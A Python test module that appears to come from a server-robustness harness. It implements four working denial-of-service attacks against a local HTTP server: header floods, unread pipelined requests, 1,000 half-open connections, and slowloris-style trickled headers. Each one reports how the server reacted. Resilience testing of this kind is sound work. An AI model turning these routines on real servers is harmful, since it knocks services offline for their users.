"""Attacks on the server below the application: floods of headers and requests, and connections that say nothing."""

import asyncio
import time
from contextlib import suppress

from scripts.attack.observer import Outcome
from scripts.servers import Server

MIB = 1024 * 1024
HEAD = b"GET /healthz HTTP/1.1\r\nHost: attest.test\r\n"
CHUNK = 64 * 1024


async def tiny_headers(server: Server) -> Outcome:
    """20 MiB of headers of a few bytes, on one connection."""
    return await pour(server.port, HEAD, b"a: b\r\n", 20 * MIB)


async def pipelined_requests(server: Server) -> Outcome:
    """20 MiB of requests on one connection, whose responses are not read."""
    return await pour(server.port, b"", HEAD + b"\r\n", 20 * MIB)


async def pour(port: int, head: bytes, unit: bytes, size: int) -> Outcome:
    """Send `unit` again and again until the server closes, does not take more for 5 s, or has taken `size` bytes."""
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    chunk, sent, end = unit * (CHUNK // len(unit)), 0, "taken whole"
    writer.write(head)
    try:
        while sent < size:
            writer.write(chunk)
            async with asyncio.timeout(5):
                await writer.drain()
            sent += len(chunk)
    except TimeoutError:
        end = "not read further"
    except OSError:
        end = "closed"
    await asyncio.sleep(2)
    writer.transport.abort()
    return Outcome(f"{end} after {sent / MIB:.1f} MiB")


async def half_open_connections(server: Server) -> Outcome:
    """1,000 connections that send nothing, for 30 s."""
    opened = await asyncio.gather(*(connect(server.port) for _ in range(1000)))
    writers = [connection[1] for connection in opened if connection]
    ends = [asyncio.create_task(connection[0].read(1)) for connection in opened if connection]
    closed, still_open = await asyncio.wait(ends, timeout=30)
    for end in still_open:
        end.cancel()
    await asyncio.gather(*ends, return_exceptions=True)
    for writer in writers:
        writer.transport.abort()
    return Outcome(f"{len(writers)} accepted, {len(closed)} closed by the server within 30 s")


async def connect(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(5):
            return await asyncio.open_connection("127.0.0.1", port)
    return None


async def trickled_headers(server: Server) -> Outcome:
    """A header every half second, for at most 40 s."""
    _, writer = await asyncio.open_connection("127.0.0.1", server.port)
    started = time.monotonic()
    writer.write(HEAD)
    with suppress(OSError):
        while time.monotonic() - started < 40:
            writer.write(b"a: b\r\n")
            await writer.drain()
            await asyncio.sleep(0.5)
    held = time.monotonic() - started
    writer.transport.abort()
    return Outcome(f"held for {held:.0f} s")


ATTACKS = {
    "2 tiny headers, 20 MiB": tiny_headers,
    "2 pipelined requests, 20 MiB": pipelined_requests,
    "2 half-open connections, 1,000": half_open_connections,
    "2 trickled headers": trickled_headers,
}
